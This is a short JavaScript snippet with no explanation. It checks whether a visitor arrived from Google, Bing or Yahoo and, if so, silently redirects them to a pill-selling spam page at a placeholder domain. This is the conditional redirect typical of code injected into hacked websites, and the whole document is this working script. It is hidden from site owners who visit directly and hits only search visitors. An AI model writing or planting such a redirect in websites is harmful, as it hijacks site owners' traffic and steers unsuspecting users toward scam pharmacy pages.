(function(){
  var r = document.referrer.toLowerCase();
  if (/(google|bing|yahoo)\./i.test(r)) {
    window.location.href = "https://cheap-pills.example/landing";
  }
})();
